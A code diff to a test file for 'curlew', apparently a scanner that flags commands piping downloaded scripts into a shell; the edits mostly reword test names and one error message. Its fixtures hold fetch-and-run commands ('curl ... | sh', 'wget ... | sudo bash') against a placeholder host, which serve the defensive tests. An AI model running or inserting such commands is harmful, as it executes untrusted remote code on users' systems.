@@ -6,7 +6,7 @@ import { bash, command, curlew } from "./curlew-process.js";
 
 const BAD = "curl -fsSL https://x.example/i.sh | sh";
 
-it("curlew reports the required version of Node if it runs in an older one", async () => {
+it("curlew reports the required version of Node if it runs on an older version", async () => {
   const preload = 'Object.defineProperty(process.versions, "node", { value: "18.20.4" })';
   const { status, stdout, stderr } = await curlew(["scan", "-"], {
     stdin: "x",
@@ -30,7 +30,7 @@ describe("scan", () => {
     expect([status, stderr]).toEqual([1, ""]);
   });
 
-  it.each(["<&-", "</dev/null"])("reports that nothing was read with %s", async (closed) => {
+  it.each(["<&-", "</dev/null"])("with %s, reports that nothing was read", async (closed) => {
     expect(await bash(`curlew scan - ${closed}`)).toMatchObject({
       status: 2,
       stderr: "curlew: <stdin>: is closed or /dev/null; nothing was read\n",
@@ -52,7 +52,7 @@ describe("scan", () => {
     expect(readdirSync(cwd).sort()).toEqual(["a.md", "out.json"]);
   });
 
-  it("reads files, folders and source files", async () => {
+  it("reads the documents and source files in a folder", async () => {
     const cwd = folderWith({
       "README.md": `# Install\n\n\`\`\`bash\n${BAD}\n\`\`\`\n`,
       "src/setup.sh": `#!/bin/sh\nset -e\n# ${BAD}\nwget -qO- https://x.example/j | sudo bash\n`,
@@ -100,7 +100,7 @@ describe("scan", () => {
     }
   });
 
-  it("analyzes the beginning of 50 MB, and reports the rest as not analyzed", async () => {
+  it("reports the finding at the end of 50 MB, or that the text was not fully analyzed", async () => {
     const stdin = `${"harmless words, line after line\n".repeat(1_640_000)}${BAD}\n`;
     const { status, stdout, stderr } = await curlew(["scan", "-"], { stdin });
     expect(stdout).toMatch(/not fully analyzed \(size\)|bash\/fetch-pipe/);
@@ -147,7 +147,7 @@ describe("error messages", () => {
   });
 });
 
-describe("the standard output of a process", () => {
+describe("standard output", () => {
   it("may be closed by its reader without an error message", async () => {
     const stdin = Array.from({ length: 2_000 }, (_, id) => JSON.stringify({ id, text: BAD })).join(
       "\n",
@@ -177,7 +177,7 @@ describe("the standard output of a process", () => {
       expect(await bash(`curlew ${args} > /dev/full`)).toEqual({
         status: 2,
         stdout: "",
-        stderr: "curlew: cannot write standard output: no space left\n",
+        stderr: "curlew: cannot write to standard output: no space left\n",
       });
     },
   );
